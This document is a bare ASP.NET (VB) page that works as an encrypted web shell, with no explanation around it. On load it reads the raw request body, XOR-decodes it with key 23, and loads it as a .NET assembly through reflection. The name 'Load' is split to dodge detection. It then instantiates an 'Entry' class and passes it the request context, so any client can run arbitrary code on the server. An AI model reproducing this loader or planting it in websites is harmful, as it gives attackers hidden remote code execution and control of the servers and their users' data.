<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim body As Byte() = Request.BinaryRead(Request.TotalBytes)
    If body.Length = 0 Then Exit Sub
    For i As Integer = 0 To body.Length - 1
        body(i) = body(i) Xor 23
    Next
    Dim loader As System.Reflection.MethodInfo = GetType(System.Reflection.Assembly).GetMethod("Lo" & "ad", New Type() {GetType(Byte())})
    Dim unit As Object = loader.Invoke(Nothing, New Object() {body})
    CallByName(unit, "CreateInstance", CallType.Method, "Entry").Equals(Context)
End Sub
</script>
